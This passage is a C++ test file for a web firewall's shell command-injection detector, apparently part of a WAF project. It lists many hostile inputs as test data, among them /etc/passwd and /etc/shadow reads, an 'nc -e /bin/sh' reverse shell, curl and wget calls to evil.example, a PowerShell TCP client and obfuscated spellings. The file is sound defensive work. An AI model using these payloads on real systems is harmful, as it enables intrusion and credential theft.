        "Node;node.js", "see a.txt; diff b.txt", "x; for ((a);;) { top = 5; }", "R&amp;D;id=3",
        "var a;id = user.id;", "a;id = 3", "AT&amp;T;cat", "&nbsp;id", "R&amp;top stories"})
    EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, text, Location::kQuery, false, "v"))) << text;
}

// What other readings of a sign, a line, a name or a value leave to a shell. Each was run by bash or dash.
TEST(Shell, OtherReadingsLeaveNothingOut) {
  const Analyzer& analyzer = analyzer_named("cmd");
  for (const std::string_view text :
       {";rm = index.html",
        ";ls = .",
        ";wget = http://evil.example/x",
        ";<<x cat config.php",
        ";<<x id",
        ";cat config.php </etc>/dev/stdout",
        ";id </etc>/dev/stdout",
        "1&aa;cat config.php",
        "1&aa;id",
        "1&aa;ls -la",
        "http://a.example/&cat config.php",
        "http://a.example/&id",
        "http://a.example/&ls -la",
        ";ls;aa;bb",
        ";whoami;aa;bb",
        "&cat a b c d e /etc/hosts",
        "$(cat a b c d e /etc/hosts)",
        "; cat x, config.php",
        "; rm x, index.html",
        ";coproc x (:);id",
        ";coproc x (:);ls -la",
        ";for a in x id;do $a;done",
        ";: ${a:=id};$a",
        ";: ${a:=cat};$a config.php",
        ";a=xid;${a#x}",
        ";a=xcat;${a#x} config.php",
        ";a=(x id);${a[1]}",
        ";a[1]=id;${a[1]}",
        ";a=1;b=1;c=1;d=1;e=1;f=1;g=1;h=1;i=1;j=1;k=1;l=1;m=1;n=1;o=1;p=1;q=cat;$q config.php",
        ";/./b?n/c?t config.php",
        ";{,,,,,,,,,,,,,,,,,,ls,-la}",
        ";{{ls,-la},}",
        ";c{a..a}t config.php",
        ";l{s..s}",
        ";echo a b c *",
        ";sleep 1 1 1 5",
        "x;sleep 5e0"})
    EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text, kBody, false, "v"))) << text;
  for (const std::string_view text :
       {";echo pwned by me now>index.html", ";echo a b c $PATH", "x;/proc/self/exe -c id", ";a=b;b=id;${!a}"})
    EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text, kBody, false, "v"))) << text;
  const std::string long_name = ";c${" + std::string(140, 'A') + "}at config.php";
  EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, long_name, kBody, false, "v")));
  for (const std::string_view text : {"a\nb\nc\nd\nid", "x\ncat a b c d e /etc/hosts"})
    EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text, kQuery, false, "v"))) << text;
  for (const std::string_view text :
       {"a\nb\nc\nd\nid", "x; ls = 5", "; id = user.name", "R&amp;D;id=3", "var a;id = user.id;", "a;id = 3",
        "see http://a.example/?x=1&top and more", "http://a.example/?x=1&id", "|Date|Time|", "aa;id;name",
        "; cat, dog and mouse", "std::cout\n  << id << name;", "<li>x; top</li>", "$a = 1; $b = 2;",
        "price $a; $b", "Echo dot & Cat tree set / \"Midnight\""})
    EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, text, kBody, false, "v"))) << text;
}

// Options by which a client runs a program deny, others of its options do not.
TEST(Shell, SettingsOfClients) {
  const Analyzer& analyzer = analyzer_named("cmd");
  for (const char* text :
       {"git -c core.editor=vim commit", "ssh -o StrictHostKeyChecking=no host", "'95%", "title=\"100%"})
    EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, text, kQuery, false, "v"))) << text;
  for (const char* text : {"git -c core.pager=id x", "ssh -o ProxyCommand=id x"})
    EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text, kQuery, false, "v"))) << text;
}

TEST(Shell, NamesOfFiles) {
  const Analyzer& analyzer = analyzer_named("cmd");
  EXPECT_EQ(verdict_of(analyzer, "x;cat /etc/passwd", Location::kFile, true), "low");
}

// The words of a CASE go when its parenthesis closes; then there is no first word left to decide on.
TEST(Shell, CaseOfAnotherLanguageInParentheses) {
  const Analyzer& analyzer = analyzer_named("cmd");
  for (const char* text :
       {"(case when ((select pass from users group by cube(pass)limit 1),1)>('a',1) then 1 else 2 end)",
        "(case when (a(b)c 1)>('a',1) then 1)", "case ((a b(c)d 1),1)>('a'"})
    EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, text, kQuery, false, "v"))) << text;
}

TEST(Shell, VariationsStayDenied) {
  const Analyzer& analyzer = analyzer_named("cmd");
  std::size_t made = 0;
  for (const char* prefix : {"", "1", "127.0.0.1", "a.txt", "x'", "x\"", "-1"}) {
    for (const char* op : {";", "|", "||", "&&", "&", "\n", " ; ", "|  ", "\n\t"}) {
      for (const char* command : {"cat /etc/passwd", "c\"\"at /etc/passwd", "ca\\t /etc/passwd",
                                  "/bin/cat /etc/passwd", "curl http://evil.example/", "whoami", "who''ami",
                                  "ping -n 3 10.1.1.1", "nc -e /bin/sh 10.1.1.1 99", "head${IFS}/etc/shadow",
                                  "python3 -c 'import os'", "ls -la", "sudo id -u", "{cat,/etc/passwd}"}) {
        for (const char* suffix : {"", " #", ";", "||x", "\n", " & "}) {
          const std::string text = std::string(prefix) + op + command + suffix;
          if (std::string_view(command).starts_with("{")) continue;  // brace lists are a decoder's work
          EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text, kQuery, false, "v"))) << text;
          ++made;
        }
      }
    }
  }
  EXPECT_GT(made, 4000u);
}

// The same command in other spellings that its shell reads alike.
TEST(Shell, OtherSpellingsStayDenied) {
  const Analyzer& analyzer = analyzer_named("cmd");
  constexpr const char* kOperators[] = {";", "|", "&&", "\n", "$("};
  constexpr const char* kNames[] = {"cat", "head", "curl", "wget", "uname", "python", "base64", "ifconfig"};
  constexpr const char* kHiding[] = {"''", "\"\"", "\\", "$@", "$*", "``", "${x}", "$()", "^", "<()"};
  constexpr const char* kSpaces[] = {" ", "\t", "  ", "${IFS}", "$IFS"};
  constexpr const char* kArguments[] = {"/etc/passwd", "-x /etc/hosts", "/etc/p''asswd", "/e*c/passwd"};
  Dice dice(3);
  std::size_t made = 0;
  for (const char* name : kNames) {
    for (const char* hidden : kHiding) {
      for (const char* space : kSpaces) {
        for (const char* argument : kArguments) {
          std::string word = name;
          word.insert(1 + dice.roll(word.size() - 1), hidden);
          const char* op = kOperators[dice.roll(std::size(kOperators))];
          const std::string text = std::string("1") + op + word + space + argument;
          EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text, kQuery, false, "v"))) << text;
          ++made;
        }
      }
    }
  }
  EXPECT_EQ(made, 8u * 10 * 5 * 4);
}

TEST(Shell, CmdExeReadsWithoutCaseAndThroughCarets) {
  const Analyzer& analyzer = analyzer_named("cmd");
  std::size_t made = 0;
  for (const std::string name :
       {"ipconfig", "systeminfo", "tasklist", "certutil", "powershell", "schtasks"}) {
    for (const char* op : {"&", "|", "&&", "||", " & "}) {
      for (std::size_t at = 1; at < name.size(); ++at) {
        std::string word = name;
        word[at] = static_cast<char>(word[at] - 32);
        word.insert(at, "^");
        const std::string text = "x" + std::string(op) + word + " /c c:\\x";
        EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text, kQuery, false, "v"))) << text;
        ++made;
      }
    }
  }
  EXPECT_EQ(made, 5u * (7 + 9 + 7 + 7 + 9 + 7));
}

TEST(Shell, NamesOfFieldsAreNotCommandLines) {
  const Analyzer& analyzer = analyzer_named("cmd");
  EXPECT_EQ(verdict_of(analyzer, "whoami", Location::kQuery, true), "recorded");
  EXPECT_EQ(verdict_of(analyzer, ";whoami", Location::kQuery, true), "balanced");
  EXPECT_EQ(verdict_of(analyzer, "/bin/ping", Location::kUrlPath), "-");
}

// w[value], with ~ if hidden, ? if something in it is unknown; signs as they stand.
std::string tokens(std::string_view text) {
  std::pmr::monotonic_buffer_resource memory;
  const shell::Variables variables;
  shell::Lexer lexer(text, 0, variables, &memory);
  std::string out;
  for (shell::Token token = lexer.next(); token.kind != shell::TokenKind::kEnd; token = lexer.next()) {
    out += out.empty() ? "" : " ";
    if (token.kind == shell::TokenKind::kWord)
      out += "w[" + std::string(token.value) + "]" + (token.hidden ? "~" : "") + (token.unknown ? "?" : "");
    else
      out += text.substr(token.begin, token.end - token.begin);
  }
  return out;
}

TEST(ShellLexer, Table) {
  EXPECT_EQ(tokens(""), "");
  EXPECT_EQ(tokens("a;id"), "w[a] ; w[id]");
  EXPECT_EQ(tokens("c'a't s"), "w[cat]~ w[s]");
  EXPECT_EQ(tokens("'cat' \\cat c\\at"), "w[cat] w[cat] w[cat]~");
  EXPECT_EQ(tokens("$'\\x69\\144'"), "w[id]~");
  EXPECT_EQ(tokens("i$@d ${x}id"), "w[id]~? w[id]~?");
  EXPECT_EQ(tokens("cat$IFS/etc"), "w[cat] w[/etc]");
  EXPECT_EQ(tokens("a&&b||c|&d&e"), "w[a] && w[b] || w[c] |& w[d] & w[e]");
  EXPECT_EQ(tokens("a <<< b 2>&1 >c"), "w[a] <<< w[b] 2>& w[1] > w[c]");
  EXPECT_EQ(tokens("x$(id)y"), "w[x] $( w[id] ) w[y]");
  EXPECT_EQ(tokens("`id` (a)"), "` w[id] ` ( w[a] )");
  EXPECT_EQ(tokens("\"a $(id) b\""), "w[a ] $( w[id] ) w[ b]");
  EXPECT_EQ(tokens("a # b"), "w[a] # w[b]");
}

TEST(ShellMatcher, Evidence) {
  const auto matcher = make_shell_matcher();
  const auto found = [&](std::string_view text) { return evidence_of(*matcher, text); };
  EXPECT_EQ(found("x;cat /etc/passwd"), "command(certain) [;cat /etc/passwd]");
  EXPECT_EQ(found("x;id"), "command(likely) [;id]");
  EXPECT_EQ(found("x;timeout 5 id"), "command(likely) [;timeout 5 id]");
  EXPECT_EQ(found("x$(id)"), "substituted(likely) [$(id]");
  EXPECT_EQ(found("x\nid -u"), "next_line(likely) [id -u]");
  EXPECT_EQ(found("c'a't /etc/passwd"), "hidden(certain) [c'a't /etc/passwd]");
  EXPECT_EQ(found("x;/b?n/id"), "command(likely) [;/b?n/id]");
  for (const std::string_view text : {"Java | Python | Ruby", "| top", "first; second; third", "2&times;4",
                                      "HEAD /index.html HTTP/1.1", "a.b(\"id\")"})
    EXPECT_EQ(found(text), "") << text;
}

// Values of one line are no Markdown; a search, and what a body holds, may be.
TEST(Shell, NamesBetweenBackticks) {
  const Analyzer& analyzer = analyzer_named("cmd");
  for (const char* text :
       {"Is it `id` or not ok", "please look at this `whoami` thanks a lot", "run `ls` now",
        "see `env` in there", "the `ps` of it", "Use `ls` to list files and `cat` to read them."}) {
    EXPECT_EQ(verdict_of(analyzer, text, kQuery, false, "v"), "balanced") << text;
    EXPECT_EQ(verdict_of(analyzer, text, kQuery, false, "q"), "strict") << text;
    EXPECT_EQ(verdict_of(analyzer, text, kBody, false, "comment"), "-") << text;
  }
  for (const char* text :
       {"use `git` and `npm` here", "the `name` column and another", "a `print` is too much",
        "sort `head` of the list", "what does `cat` and `find` do"})
    EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, text, kQuery, false, "v"))) << text;
}

// A substitution without its end runs nothing, and `word' is how manuals of Unix quote.
TEST(Shell, BackticksWithoutTheirEnd) {
  const Analyzer& analyzer = analyzer_named("cmd");
  for (const char* text :
       {"`modprobe tls' fails on boot", "The `bind' builtin and `trap -p' now display signals",
        "`realpath -s' needed no such part. To get what GNU `realpath' did, set it.", "x`id", "`uname -a"})
    EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, text, kQuery, false, "v"))) << text;
  for (const char* text : {"x`id`", "x`id #`", "x`id #'`", "x`id;`", "`;id;#", "x`\nid\n'`", "`uname -a`"})
    EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text, kQuery, false, "v"))) << text;
}

// Keywords are followed by a command only inside of a compound command that was opened.
TEST(Shell, BranchesOfCompoundCommands) {
  const Analyzer& analyzer = analyzer_named("cmd");
  for (const char* text :
       {"x;if true;then id;fi", "x;while :;do id;done", "x;for i in 1;do id;done", "if a;then b;else id;fi",
        "x';if true;then cat /etc/passwd;fi;'", "x;until id;do :;done"})
    EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text, kQuery, false, "v"))) << text;
}

// No line of a shell begins with a pipe: rows of tables do.
TEST(Shell, CodeSpansInRows) {
  const Analyzer& analyzer = analyzer_named("cmd");
  for (const char* text :
       {"| a | b |\n|---|---|\n| `npm stage publish` | `npm publish` |\n| `hostname` | `str` |",
        "Options:\n| `--debug=cli` / attach | `id` of it |\n", "* `<version`\n* `<=version`"})
    EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, text, kBody, false, "v"))) << text;
  for (const char* text :
       {"x | `id`", "x\ny | `id -u`", "x\n| cat /etc/passwd", "x`</etc/passwd`", "x\n||id"})
    EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text, kBody, false, "v"))) << text;
}

// Options that run a command, behind other words.
TEST(Shell, OptionsBehindWords) {
  const Analyzer& analyzer = analyzer_named("cmd");
  for (const char* text :
       {"x --checkpoint=1 --checkpoint-action=exec=id", "x -oProxyCommand=id y", "host -o ProxyCommand=id",
        "x -exec id {} +", "x -or -exec cat /etc/hosts ;", "x -execdir id ;", "main -c core.sshCommand=id",
        "x -c alias.z=!id z", "a.txt --use-compress-program=id", "x --upload-pack=id y",
        "index.php -d auto_prepend_file=/etc/hosts", "ext::sh -c id",
        "x --checkpoint-action=exec=id ssh://-v"}) {
    EXPECT_EQ(verdict_of(analyzer, text, kQuery, false, "v"), "balanced") << text;
  }
  for (const char* text :
       {"gcc -o include foo.c", "see -o for the output", "a -d b -c d", "the option -exec of find",
        "x -c y=z", "sort --key=2 --reverse", "one -- two -- three", "tea -oat milk", "x -d= -f2",
        "x -o pid= -o args=", "make -C filter=x", "x -o loop,ro y"})
    EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, text, kQuery, false, "v"))) << text;
  EXPECT_FALSE(denied_at_balanced(
      verdict_of(analyzer, "run tar with --checkpoint-action=exec=sh to see it", kBody, false, "comment")));
}

TEST(Shell, WrappersWithWordsOfTheirOwn) {
  const Analyzer& analyzer = analyzer_named("cmd");
  for (const char* text :
       {"x;timeout -s KILL 5 id", "x;flock /tmp/l id", "x;su root -c id", "x;sg root id", "x;sg root 'id -u'",
        "x;trap \"i''d\" EXIT", "x;set i''d;$*", "x;timeout -s INT 1 whoami", "x;su - www-data -c whoami",
        "x;trap -- id 0", "x;m4 s*", "x;. s*", "x;tr a a<s*", "x;mapfile<s*", "x;gosu www-data id", "R&D;id",
        "x;flock . id", "x;/usr//bin/ul /etc/hostname", "x$(//bin//nl a)"})
    EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text, kQuery, false, "v"))) << text;
  for (const char* text :
       {"x; su root", "the flock; the herd", "timeout; KILL the process", "we set it; then go", "su; sg; at",
        "Sioux; flock of sheep", "timeout 5; done", "let x\ntype First<T, U = T> = [T] extends [never]\n"})
    EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, text, kQuery, false, "v"))) << text;
}

// Compound commands as all of a value.
TEST(Shell, CompoundCommandsFromTheFirstByte) {
  const Analyzer& analyzer = analyzer_named("cmd");
  for (const char* text :
       {"if id;then :;fi", "if id; then x; fi", "if whoami\nthen x\nfi", "if ! id;then x;fi",
        "while id;do break;done", "until ls;do x;done", "case x in x) id;;esac",
        "case x in *) whoami ;; esac", "$(case x in x) id;;esac)", "\"$(case a in b|a) whoami;; esac)\"",
        "x=$(case \"$a\" in *) id;esac)", "{ id;}", "{ ls; whoami; }", "f()(id);f", "f() (ls); f"})
    EXPECT_EQ(verdict_of(analyzer, text, kQuery, false, "v"), "balanced") << text;
  for (const char* text :
       {"if id, then", "if id is set; otherwise not", "while top; done", "if it rains; then we go",
        "in case x) fails; see esac", "$(case x) id;", "until date; door closes", "if (id) then; end",
        "case (id) of; esac", "{ id }", "{id;}", "{ id: string; date: string; }", "f()(x)(y)", "a()(b); c()",
        "{ \"id\": 1 };"})
    EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, text, kQuery, false, "v"))) << text;
}

// Unambiguous command names, files of other machines, and cmdlets before an expression.
TEST(Shell, CommandsByTheirNamesAlone) {
  const auto& analyzer = analyzer_named("cmd");
  for (const char* text : {"x;tclsh", "x|visudo", "x|env a.c", "x;git a.txt"})
    EXPECT_EQ(verdict_of(analyzer, text, kQuery, false, "v"), "strict") << text;
  for (const char* text :
       {"x;scp a b:c", "x;rsync a@b::c d", "x;rclone ls a:", "Invoke-Expression (whoami)",
        "New-Object System.Net.Sockets.TCPClient('192.0.2.1',44)", "x;byebug -x /tmp/a", "& djoin /a b.exe"})
    EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text, kQuery, false, "v"))) << text;
  EXPECT_EQ(verdict_of(analyzer, "visudo", Location::kBody, false, "v"), "strict");
  for (const char* text : {"x;mail a", "go; task one", "Error: x\n    at /app/lib/a.js:10:3",
                           "see Get-Help (online)", "New-Object", "nc: a b"})
    EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, text, kQuery, false, "v"))) << text;
}

// Patterns are compared with those commands alone whose names have their bytes: the same as with all.
TEST(ShellPatterns, AreFoundAsIfComparedWithEveryCommand) {
  std::vector<std::string> patterns{"?",
                                    "*",
                                    "[a-z]",
                                    "[!a]?",
                                    "i[!a-c]",
                                    "[]a]?",
                                    "[!]]*[x-z]",
                                    "[a",
                                    "*[[]",
                                    "[x-]*",
                                    "[a-c-e]*z",
                                    "*[0-9][0-9]",
                                    "[!!-~]*",
                                    "?[^a-z]*",
                                    "[",
                                    "x[",
                                    "i?]",
                                    "*0",
                                    "*-*",
                                    "*.*",
                                    "???",
                                    "I?",
                                    "_*",
                                    "*+*",
                                    "q*q*q",
                                    "??????????????????????",
                                    std::string(70, '?'),
                                    std::string(70, '*')};
  constexpr std::size_t kEvery = 11;
  for (std::size_t i = 0; i < shell::commands().rows().size(); i += kEvery) {
    const std::string name(shell::commands().rows()[i].text);
    const std::string middle = name.substr(name.size() / 2);
    for (const std::string& pattern :
         {"?" + name.substr(1), "*" + middle, name.substr(0, name.size() / 2) + "*z",
          "[" + name.substr(0, 1) + "-z]" + name.substr(1), middle + "?*",
          name.substr(0, 1) + "*" + name.substr(name.size() - 1)})
      patterns.push_back(pattern);
  }
  std::size_t found = 0;
  for (const std::string& pattern : patterns) {
    const auto rows = shell::commands().rows();
    const bool any = std::any_of(rows.begin(), rows.end(), [&](const shell::CommandRow& row) {
      return shell::glob_match(pattern, row.text);
    });
    EXPECT_EQ(shell::pattern_names_command(pattern), any) << pattern;
    found += any ? 1 : 0;
  }
  EXPECT_GT(found, patterns.size() / 2);
  EXPECT_LT(found, patterns.size());
}

// A pattern is looked for among all commands, so that not all of very many are.
TEST(ShellMatcher, ATextOfPatternsIsMadeOfThem) {
  const auto matcher = make_shell_matcher();
  std::string text;
  for (int i = 0; i < 128; ++i) text += "x;/b?n/none?";
  EXPECT_EQ(evidence_of(*matcher, text), "");
  EXPECT_NE(evidence_of(*matcher, text + "x;/b?n/none?"), "");
}

}  // namespace
}  // namespace wafd::detect
